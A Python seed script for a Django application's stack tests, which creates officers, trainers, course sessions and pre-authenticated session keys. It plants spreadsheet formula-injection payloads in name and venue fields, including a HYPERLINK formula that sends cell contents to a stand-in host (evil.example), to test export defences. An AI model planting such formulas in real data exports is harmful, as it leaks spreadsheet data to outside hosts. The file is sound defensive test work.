"""Data for the stack tests, written into a running stack's database. Run as
`python tests/stack/seed.py` with the stack's environment (its folder's `env`); prints one JSON
object.

Signed-in sessions are made here (Django's session store, allauth's authentication records for
staff) rather than through the login form: signing 70 people in over HTTP would spend the
suite's time on password hashing. Logins themselves are attacked in the rate-limit test.
"""

import datetime
import json
import os
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

import django  # noqa: E402

django.setup()

from allauth.account.internal.flows.login import record_authentication  # noqa: E402
from allauth.mfa.models import Authenticator  # noqa: E402
from django.contrib.auth import BACKEND_SESSION_KEY, HASH_SESSION_KEY, SESSION_KEY  # noqa: E402
from django.contrib.sessions.backends.cached_db import SessionStore  # noqa: E402
from django.test import RequestFactory  # noqa: E402

from tests import factories  # noqa: E402

OFFICERS = int(os.environ.get("STACK_OFFICERS", "66"))
CAPACITY = int(os.environ.get("STACK_CAPACITY", "10"))
# A spreadsheet formula a hostile officer puts in their name (the attack found in issue 15).
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"y")'
PASSWORD = "stack-test-password-2026"
# Every run makes its own people and sessions, so the suite can run again on a stack it reuses.
RUN = os.environ.get("STACK_RUN", "1")


def signed_in(user, *, mfa=False):
    """A session key for `user`, as if they had signed in (with a second factor for staff)."""
    session = SessionStore()
    session[SESSION_KEY] = str(user.pk)
    session[BACKEND_SESSION_KEY] = "django.contrib.auth.backends.ModelBackend"
    session[HASH_SESSION_KEY] = user.get_session_auth_hash()
    request = RequestFactory().get("/")
    request.session = session
    record_authentication(request, user, "password", email=user.email)
    if mfa:
        authenticator = Authenticator.objects.get(user=user, type=Authenticator.Type.TOTP)
        record_authentication(request, user, "mfa", id=authenticator.pk, type="totp")
    session.save()
    return session.session_key


def officer(email, **fields):
    # No password: production's hasher would spend a second per account for nothing.
    return factories.officer(email=email, password=None, **fields)


def main():
    day = [(datetime.date(2031, 5, 5), datetime.time(9), datetime.time(17))]
    trainer = factories.trainer(email=f"stack-trainer-{RUN}@muster.example", password=None)
    agency = factories.agency(name=f"+Agency @ -Unit {RUN}")
    course = factories.course(code=f"STK-{RUN}", title=f"Stack tests {RUN}")
    crowded = factories.session(
        reference=f"STACK-{RUN}-SEATS", course_obj=course, capacity=CAPACITY, days=day
    )
    mail = factories.session(reference=f"STACK-{RUN}-MAIL", course_obj=course, days=day)
    # Every free-text field a list export shows, written by someone hostile.
    exported = factories.session(
        reference=f"STACK-{RUN}-EXPORT",
        course_obj=course,
        days=day,
        venue="=1+1",
        city="@evil",
        host_agency=agency,
    )
    exported.trainers.add(trainer)
    officers = [
        officer(f"officer{n:03d}-{RUN}@stack.example", agency_obj=agency) for n in range(OFFICERS)
    ]
    hostile = officer(
        f"hostile-{RUN}@stack.example",
        agency_obj=agency,
        first_name=FORMULA_NAME,
        last_name="@SUM(1+1)",
    )
    factories.registration(session_obj=exported, officer_obj=hostile)
    for someone in officers[:3]:
        factories.registration(session_obj=exported, officer_obj=someone)
    # The account whose password is attacked: it exists, so allauth counts failures against it.
    targets = [
        factories.officer(
            email=f"target{n}-{RUN}@stack.example", password=PASSWORD, agency_obj=agency
        )
        for n in range(3)
    ]
    # The yearly report (a programme lead's) lists host agencies and trainers by name.
    lead = factories.lead(email=f"stack-lead-{RUN}@muster.example", password=None)
    hostile_trainer = factories.trainer(
        email=f"hostile-trainer-{RUN}@muster.example", password=None, first_name="=2+3"
    )
    factories.delivered_session(
        reference=f"STACK-{RUN}-REPORT",
        course_obj=course,
        day_count=1,
        start=datetime.date(2031, 2, 3),
        trainer=hostile_trainer,
        host_agency=agency,
    )
    mailed = [officer(f"mailed{n}-{RUN}@stack.example", agency_obj=agency) for n in range(4)]
    print(
        json.dumps(
            {
                "capacity": CAPACITY,
                "officers": {o.email: signed_in(o) for o in officers},
                "mailed": {o.email: signed_in(o) for o in mailed},
                "trainer": signed_in(trainer, mfa=True),
                "lead": signed_in(lead, mfa=True),
                "report_year": 2031,
                "targets": [t.email for t in targets],
                "password": PASSWORD,
                "seats_session": crowded.reference,
                "mail_session": mail.reference,
                "export_session": exported.reference,
                "formula_name": FORMULA_NAME,
            }
        )
    )


if __name__ == "__main__":
    main()
